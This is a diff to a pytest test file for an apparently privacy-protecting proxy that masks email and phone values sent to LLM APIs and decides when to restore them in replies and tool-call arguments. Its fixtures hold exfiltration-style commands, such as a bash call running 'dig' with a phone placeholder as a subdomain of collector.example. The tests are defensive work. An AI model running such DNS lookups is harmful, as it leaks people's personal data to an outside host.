@@ -32,7 +32,13 @@ WANT = KEPT + f"You opened https://x.example/?u={MAIL} and ran dig {PHONE}.x.exa
               f"{PHONE}."
 KEPT_ARGS = {"cmd": f"dig {P}.collector.example.", "login": f"{E}@collector.example"}
 ARGS = {**KEPT_ARGS, "to": E, "again": f"dig {P}.x.example"}
-WANT_ARGS = {**KEPT_ARGS, "to": MAIL, "again": f"dig {PHONE}.x.example"}
+# scopes16: the call names collector.example, so it is a scope that sends: `to` stays too (README "a scope that
+# sends"), while `again`, the client's own `dig <phone>.x.example` as it sent it, comes back.
+WANT_ARGS = {**KEPT_ARGS, "to": E, "again": f"dig {PHONE}.x.example"}
+# The same values in a call that names no destination: restored (a call naming only the client's own host,
+# `dig <phone>.x.example`, still sends: there `to` stays and the client's own host comes back).
+LOCAL_ARGS = {"to": E, "note": f"Call {P}."}
+WANT_LOCAL = {"to": MAIL, "note": f"Call {PHONE}."}
 
 
 @pytest.fixture(scope="module")
@@ -53,6 +59,10 @@ def test_chat(mock: Mock, restoring: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert json.loads(arguments) == WANT_ARGS
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, arguments = chat_text_and_arguments(oai(restoring), PROMPT, stream)
+    assert text == WANT
+    assert json.loads(arguments) == WANT_LOCAL
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@@ -62,11 +72,20 @@ def test_responses(mock: Mock, restoring: Proxy, stream: bool) -> None:
     sent_placeholders(mock)
     assert text == WANT
     assert calls == [WANT_ARGS]
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "note", "arguments": LOCAL_ARGS}])
+    text, calls = responses_text_and_calls(oai(restoring), PROMPT, stream)
+    assert text == WANT
+    assert calls == [WANT_LOCAL]
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 def test_anthropic(mock: Mock, restoring: Proxy, stream: bool) -> None:
-    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "bash", "arguments": ARGS}])
+    for args, want in ((ARGS, WANT_ARGS), (LOCAL_ARGS, WANT_LOCAL)):
+        anthropic_answer(mock, restoring, stream, args, want)
+
+
+def anthropic_answer(mock: Mock, restoring: Proxy, stream: bool, args: dict[str, Any], want: dict[str, Any]) -> None:
+    mock.script(text=SAID, chunk_chars=3, tool_calls=[{"name": "bash", "arguments": args}])
     client = claude(restoring).messages
     msgs: Any = [{"role": "user", "content": PROMPT}]
     if stream:
@@ -76,4 +95,4 @@ def test_anthropic(mock: Mock, restoring: Proxy, stream: bool) -> None:
         final = client.create(model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs)
     sent_placeholders(mock)
     assert "".join(b.text for b in final.content if b.type == "text") == WANT
-    assert [b.input for b in final.content if b.type == "tool_use"] == [WANT_ARGS]
+    assert [b.input for b in final.content if b.type == "tool_use"] == [want]
